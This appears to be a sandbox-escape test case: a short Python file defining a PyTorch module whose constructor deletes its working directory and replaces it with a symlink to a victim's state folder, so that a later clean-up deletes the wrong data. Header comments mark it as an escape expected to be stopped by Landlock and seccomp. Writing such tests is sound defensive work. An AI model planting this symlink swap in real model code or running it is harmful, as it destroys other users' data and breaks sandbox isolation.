# what: puts a link to the state folder where its own folder was, for the clean-up to follow
# kind: escape
# ends: lift_failed or sandbox
# stopped by: landlock seccomp

import torch
from torch import nn

os = torch.os


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        here = os.getcwd()
        os.rmdir(here)
        os.symlink(VICTIM["state"], here)
        raise RuntimeError("GOT a link")
